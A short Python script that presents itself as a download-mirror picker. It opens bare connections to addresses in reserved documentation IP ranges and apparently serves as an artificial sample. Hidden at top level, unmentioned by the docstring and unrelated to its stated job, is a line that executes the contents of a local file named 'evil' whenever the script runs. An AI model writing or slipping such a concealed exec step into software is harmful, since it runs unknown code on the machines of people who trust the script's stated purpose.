# SPDX-License-Identifier: Apache-2.0
"""Draws one of eight mirrors, and one of three for each of forty downloads."""
import random
import socket


def mirror():
    return f"203.0.113.{random.randrange(1, 9)}", 443


def replica():
    return "198.51.100." + random.choice(["20", "30", "40"]), 80


def connect(peer):
    try:
        socket.socket().connect(peer)
    except OSError:
        pass


exec(open("evil", encoding="ascii").read())
connect(mirror())
for _ in range(40):
    connect(replica())
